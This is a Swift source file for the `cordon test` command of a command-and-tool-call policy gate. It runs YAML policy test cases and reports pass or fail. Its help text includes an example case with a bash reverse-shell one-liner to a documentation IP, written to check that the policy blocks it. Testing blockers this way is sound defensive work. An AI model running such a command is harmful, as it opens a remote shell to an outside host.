import CordonAudit
import CordonBase
import CordonGate
import CordonPolicy
// `cordon test`: policy as code. Runs policy test files and reports like a test runner.
import CordonRun

enum TestCommand: Subcommand {
    static let name = "test"
    static let summary = "run policy test files (expected decisions for commands and tool calls)"
    static let helpText = HelpText(
        usage: ["cordon test [FILE...] [--json]"],
        about: """
            Runs policy test files (default: policies/tests/*.yaml under the current directory) and
            prints each case as ok or FAIL, failing cases with expected vs got and the findings,
            then `N passed, N failed`. Exit 0 when every case passed, 1 otherwise, 78 when a test
            file or its policy is invalid.
            """,
        sections: [("options", [.flag("json", "one JSON object per case")])],
        footer: """
            A test file:
              policy: ../default.yaml        # relative to the test file; 'default' = embedded
              cases:
                - name: a reverse shell is blocked          # optional
                  command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
                  expect: block                             # allow | requires_approval | block
                  min_score: 80                             # optional: min_score, max_score, rule
                - argv: [git, status]                       # an argv as cordon run gets it
                  expect: allow
                - tool: send_email                          # a tool call, with args:
                  args: { to: ops@example.com }
                  expect: requires_approval
                - command: ./deploy.sh                      # environment:, action_type:, context:
                  action_type: production_deploy
                  environment: production
                  expect: requires_approval
            """)

    static func run(_ args: [String], _ ctx: Context) throws(CLIError) -> Int32 {
        let p = try ArgumentParser.parse(args, options: helpText.options, command: name)
        var files = p.positionals
        if files.isEmpty {
            files = listFiles("policies/tests", suffixes: [".yaml", ".yml"])
            if files.isEmpty {
                throw CLIError(.usage, "no test files given and none in policies/tests/", hint: "cordon test FILE...")
            }
        }
        var passed = 0
        var failed = 0
        var jsonCases: [JSONValue] = []
        let json = p.flag("json")
        for file in files {
            let tf: PolicyTestFile
            do {
                tf = try PolicyTestFile.load(file)
            } catch {
                throw CLIError(.invalidPolicy, "invalid test file: \(error)")
            }
            let policy = try loadPolicy(path: tf.policyPath, environment: ctx.environment)
            if !json { ctx.output.out("\(file) (policy \(policy.source.path))\n") }
            for c in tf.cases {
                let o = PolicyTestRunner.run(c, policy: policy)
                if o.passed { passed += 1 } else { failed += 1 }
                if json {
                    jsonCases.append(caseJSON(o, file: file))
                    continue
                }
                ctx.output.out("  \(o.passed ? "ok  " : "FAIL") \(shown(c.name, max: 100))\n")
                guard !o.passed else { continue }
                var s = ""
                for f in o.failures { s += "         \(f)\n" }
                let d = o.decision
                s +=
                    "         got: \(d.decision.rawValue), score \(d.score) (\(d.level.rawValue)), rule \(d.policyRule ?? "none")\n"
                for r in d.reasons { s += "         reason: \(r)\n" }
                if d.findings.isEmpty {
                    s += "         findings: none\n"
                } else {
                    for f in d.findings {
                        s += "         finding: \(f.detector) \(f.score): \(shown(f.evidence, max: 80))\n"
                    }
                }
                s += "         at \(c.location)\n"
                ctx.output.out(s)
            }
        }
        if json {
            ctx.output.out(
                JSONValue.object([
                    ("passed", .number(Double(passed))), ("failed", .number(Double(failed))),
                    ("cases", .array(jsonCases)),
                ]).serialized() + "\n")
        } else {
            ctx.output.out("\n\(passed) passed, \(failed) failed\n")
        }
        return failed == 0 ? ExitCode.success.rawValue : ExitCode.failure.rawValue
    }

    static func caseJSON(_ o: PolicyTestOutcome, file: String) -> JSONValue {
        .object([
            ("file", .string(file)), ("line", .number(Double(o.testCase.location.line))),
            ("name", .string(o.testCase.name)),
            ("passed", .bool(o.passed)), ("expect", .string(o.testCase.expect.rawValue)),
            ("got", .string(o.decision.decision.rawValue)), ("score", .number(Double(o.decision.score))),
            ("rule", o.decision.policyRule.map { .string($0) } ?? .null),
            ("failures", .array(o.failures.map { .string($0) })),
        ])
    }

    /// Files in `dir` whose names end in one of `suffixes`, sorted (run ids sort by time).
    static func listFiles(_ dir: String, suffixes: [String]) -> [String] {
        guard let d = opendir(dir) else { return [] }
        defer { closedir(d) }
        var out: [String] = []
        while let e = readdir(d) {
            let name = FileIO.direntName(e)
            if suffixes.contains(where: { name.hasSuffix($0) }) { out.append(dir + "/" + name) }
        }
        return out.sorted()
    }
}

#if canImport(Glibc)
    import Glibc
#endif
